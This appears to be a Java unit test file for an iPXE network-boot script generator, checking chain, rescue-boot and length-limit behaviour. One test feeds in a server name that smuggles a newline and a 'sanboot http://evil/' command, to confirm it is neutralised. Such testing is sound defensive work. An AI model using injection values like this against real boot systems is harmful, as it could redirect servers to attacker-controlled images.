package org.lifeboot.manager.netboot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.URI;
import org.junit.jupiter.api.Test;

class IpxeScriptTest {

  private static final BootAddresses BOOT =
      BootAddresses.of(
          URI.create("http://boot.example:8081/"), FakeBootDesk.BOOT, "0123456789abcdef", "feed");

  @Test
  void theFirstScriptAsksWithTheAddressesOfAllCardsAndFallsToDisk() {
    assertThat(IpxeScript.start())
        .isEqualTo(
            """
            #!ipxe
            echo Lifeboot: asking the Manager what this server boots
            chain --timeout 30000 --replace ipxe?mac=${netX/mac:hexhyp}&mac=${net0/mac:hexhyp}&mac=${net1/mac:hexhyp}\
            &mac=${net2/mac:hexhyp}&mac=${net3/mac:hexhyp}&ip=${netX/ip}&dhcp=${netX/dhcp-server}\
            &platform=${platform}&product=${product:uristring}&serial=${serial:uristring} ||
            echo Lifeboot: no answer, asking once more
            sleep 2
            chain --timeout 30000 --replace ipxe?mac=${netX/mac:hexhyp}&mac=${net0/mac:hexhyp}&mac=${net1/mac:hexhyp}\
            &mac=${net2/mac:hexhyp}&mac=${net3/mac:hexhyp}&ip=${netX/ip}&dhcp=${netX/dhcp-server}\
            &platform=${platform}&product=${product:uristring}&serial=${serial:uristring} ||
            echo Lifeboot: nothing for this server, booting from disk
            exit
            """);
  }

  @Test
  void theRescueScriptLoadsKernelThenInitrdsWithTheSessionLast() {
    assertThat(new IpxeScript().rescue("web-1", BOOT, "boot=live ip=dhcp"))
        .isEqualTo(
            """
            #!ipxe
            echo Lifeboot: starting the rescue system for web-1
            kernel --timeout 30000 http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/vmlinuz boot=live ip=dhcp fetch=http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/filesystem.squashfs BOOTIF=01-${netX/mac:hexhyp} initrd=initrd.img initrd=agent.img initrd=session.img || kernel --timeout 30000 http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/vmlinuz boot=live ip=dhcp fetch=http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/filesystem.squashfs BOOTIF=01-${netX/mac:hexhyp} initrd=initrd.img initrd=agent.img initrd=session.img || goto failed
            initrd --timeout 30000 http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/initrd.img || initrd --timeout 30000 http://boot.example:8081/boot/image/0123456789abcdef/00112233445566778899aabbccddeeff/initrd.img || goto failed
            initrd --timeout 30000 http://boot.example:8081/boot/agent/feed/00112233445566778899aabbccddeeff/agent.img || initrd --timeout 30000 http://boot.example:8081/boot/agent/feed/00112233445566778899aabbccddeeff/agent.img || goto failed
            initrd --timeout 30000 http://boot.example:8081/boot/session/00112233445566778899aabbccddeeff/session.img || goto again
            echo Lifeboot: all boot files are here, starting the kernel
            boot || goto failed
            :again
            isset ${again} && goto failed ||
            set again once
            echo Lifeboot: the session file did not come, asking the Manager anew
            imgfree
            chain --timeout 30000 --replace start.ipxe || goto failed
            :failed
            echo Lifeboot: the rescue system could not be loaded, booting from disk
            imgfree
            exit
            """);
  }

  @Test
  void aServersNameCannotBecomeACommand() {
    assertThat(new IpxeScript().fromDisk("x\nsanboot http://evil/ || ${net0/mac} #"))
        .isEqualTo(
            """
            #!ipxe
            echo Lifeboot: x?sanboot http???evil? ?? ??net0?mac? ? boots from its disk
            exit
            """);
  }

  @Test
  void aCommandLineTheKernelWouldCutIsRefused() {
    assertThatThrownBy(() -> new IpxeScript().rescue("web-1", BOOT, "a".repeat(2000)))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("2047 are possible");
  }
}
